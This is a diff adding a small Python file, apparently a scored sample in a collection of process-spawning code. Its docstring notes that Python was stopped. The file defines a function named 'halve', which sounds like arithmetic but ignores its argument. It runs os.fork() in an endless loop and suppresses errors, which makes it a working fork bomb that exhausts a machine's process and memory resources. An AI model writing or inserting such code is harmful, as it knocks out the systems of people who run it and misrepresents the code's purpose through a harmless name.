@@ -1,0 +1,16 @@
+"""Starts processes that start processes.
+
+score: 2
+seen: Python was stopped
+"""
+
+# %% halve
+import os
+
+
+def halve(number):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
